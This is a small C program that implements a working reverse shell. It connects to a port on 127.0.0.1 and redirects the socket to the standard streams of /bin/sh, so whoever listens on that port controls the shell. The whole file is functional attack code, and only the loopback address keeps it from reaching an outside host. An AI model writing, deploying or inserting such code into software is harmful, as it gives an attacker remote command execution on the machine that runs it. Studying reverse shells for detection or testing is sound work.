// A reverse shell's shape: connects to 127.0.0.1:PORT and hands the socket to /bin/sh as its standard
// streams. The port's listener decides what the shell does. Usage: reverse_shell PORT
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int argc, char** argv) {
  struct sockaddr_in address = {.sin_family = AF_INET};
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  if (argc < 2 || fd < 0) {
    return 2;
  }
  address.sin_port = htons((unsigned short)atoi(argv[1]));
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  if (connect(fd, (struct sockaddr*)&address, sizeof(address)) != 0) {
    perror("connect");
    return 1;
  }
  for (int stream = 0; stream < 3; ++stream) {
    dup2(fd, stream);
  }
  execl("/bin/sh", "sh", (char*)NULL);
  return 1;
}
